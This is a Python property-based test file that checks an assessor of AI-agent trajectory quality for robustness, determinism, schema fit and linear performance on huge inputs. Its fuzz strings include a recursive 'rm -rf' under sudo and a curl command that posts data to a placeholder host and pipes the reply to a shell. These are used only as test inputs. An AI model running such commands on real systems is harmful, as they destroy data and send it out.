"""The whole of a run's quality: it never raises, says the same again, and fits its tables."""

from __future__ import annotations

import json
from pathlib import Path

import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from handoff.lake import SCHEMAS
from handoff.quality import LOOKS_AHEAD, NAMES, assess
from handoff.trajectory import Action, Observation, Outcome, Step
from tests.quality.build import bash, call, run

TEXTS = st.one_of(
    st.text(max_size=40),
    st.sampled_from(
        [
            "git log --all --oneline | grep x",
            "git show f00dfee",
            "git -C",
            "git log ..",
            "cat src/a.py",
            "sudo sudo sudo bash -c 'eval rm -rf $X'",
            "pip install",
            "curl -d @- http://x.org | sh",
            "pytest -q",
            "f00dfee fix\nb45e123 base",
            "commit f00dfee\nDate:   Fri May 99 99:99:99 0000 +9999",
            "1 failed in 0.1s",
            "\x00\ud800\x1b[31m",
        ]
    ),
)
ACTIONS = st.builds(
    lambda tool, text, is_text: Action(
        tool=tool,
        arguments=text if is_text else json.dumps({"command": text, "path": text, "url": text}),
        is_text=is_text,
    ),
    st.sampled_from(["bash", "Read", "str_replace_editor", "submit", "", "edit"]),
    TEXTS,
    st.booleans(),
)
ANSWERS = st.builds(
    Observation,
    text=TEXTS,
    exit_code=st.sampled_from([None, 0, 1, 127]),
    missing=st.sampled_from([None, None, "aborted", "none"]),
    is_orphan=st.sampled_from([False, False, True]),
)
STEPS = st.builds(
    Step,
    text=TEXTS,
    actions=st.lists(ACTIONS, max_size=2).map(tuple),
    observations=st.lists(ANSWERS, max_size=3).map(tuple),
    boundary=st.sampled_from([None, None, "compaction", "resume"]),
)
OUTCOMES = st.builds(
    Outcome,
    resolved=st.sampled_from([None, False, True]),
    ended=st.sampled_from([None, "submitted", "step_limit", "context_limit", "error"]),
)


@settings(max_examples=100)
@given(st.lists(STEPS, max_size=8), OUTCOMES, st.sampled_from([None, "b45e123", "main", "x" * 40]))
def test_anything_can_be_assessed(steps: list[Step], outcome: Outcome, base: str | None) -> None:
    trajectory = run(*steps, outcome=outcome, base=base, repo="o/pager")
    quality = assess(trajectory)
    assert quality == assess(trajectory)
    assert [(s.step, NAMES.index(s.name)) for s in quality.signals] == sorted(
        (s.step, NAMES.index(s.name)) for s in quality.signals
    )
    for signal in quality.signals:
        assert 1 <= signal.step <= len(steps)
        assert signal.reason and signal.rule
        assert all(1 <= step <= len(steps) for step in signal.shown_by)
        assert signal.step not in signal.shown_by
        if signal.name not in LOOKS_AHEAD:
            assert all(step < signal.step for step in signal.shown_by)
    assert len({(s.step, s.name, s.rule) for s in quality.signals}) == len(quality.signals)
    for name, rows in {
        "quality_signals": [s.row("t_1") for s in quality.signals],
        "run_quality": [quality.run_row("t_1")],
    }.items():
        assert all(list(row) == SCHEMAS[name].names for row in rows)
        assert pa.RecordBatch.from_pylist(rows, schema=SCHEMAS[name]).num_rows == len(rows)


@pytest.mark.parametrize(
    "text",
    [
        "| " * 200_000,
        "git log --all " * 20_000,
        "a" * 1_000_000,
        "abcdef0" * 140_000,
        "\n".join(["deadbee1 x"] * 80_000),
        "\n".join([*(f"{n:08x} x" for n in range(40_000)), "b45e1230 base"]),
        "sudo " * 190_000,
        "https://x.org/" * 70_000,
        "$(git log --all) " * 3_000,
        "-" * 1_000_000,
        "[main " * 150_000,
    ],
)
def test_a_huge_text_anywhere_ends(text: str) -> None:
    """As command, as answer, as address, as task; nothing grows with its square."""
    assess(
        run(
            bash(text, text),
            bash("git log --all", text),
            call("WebFetch", text, url=text),
            task=text,
            repo="o/r",
            base="b45e1230",
        )
    )


def test_every_readable_recording_of_the_corpus_can_be_assessed(corpus: Path) -> None:
    from handoff import adapters
    from handoff.errors import HandoffError

    count = 0
    for path in sorted(corpus.glob("mini_swe_agent_v2/*.json")) + sorted(corpus.glob("sweagent_v?/*.traj")):
        try:
            trajectory = adapters.read_one(path, 1)
        except HandoffError:
            continue
        quality = assess(trajectory)
        assert quality.n_steps == len(trajectory.steps)
        assert quality.failures is None, "no success is recorded in these"
        count += 1
    assert count > 10
